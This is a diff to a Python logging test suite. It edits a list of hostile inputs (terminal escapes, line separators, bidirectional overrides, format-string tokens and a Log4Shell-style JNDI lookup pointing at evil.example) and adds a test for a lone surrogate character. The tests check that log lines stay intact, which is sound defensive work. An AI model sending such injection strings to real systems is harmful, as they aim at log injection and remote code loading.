@@ -15,7 +15,6 @@ HOSTILE = [
     "\x9b2J",
     "\u2028\u2029\x85\x0b\x0c\x1c\x1d\x1e",
     "\u202eevil\u2066",
-    "\ud800",
     "${jndi:ldap://evil.example}\x00",
     "%s %(levelname)s %d {0} {level}",
 ]
@@ -33,3 +32,7 @@ def test_a_field_a_message_or_an_exception_stays_in_its_line(telling: Telling, t
     assert (first["message"], first["outcome"]) == (text, text)
     assert second["event_id"] == text
     assert (first["level"], second["level"]) == ("INFO", "ERROR")
+
+
+def test_half_a_surrogate_pair_does_not_stop_the_log() -> None:
+    assert logger.registered_formatter.serialize({"level": "INFO", "message": "\ud800"}).isascii()
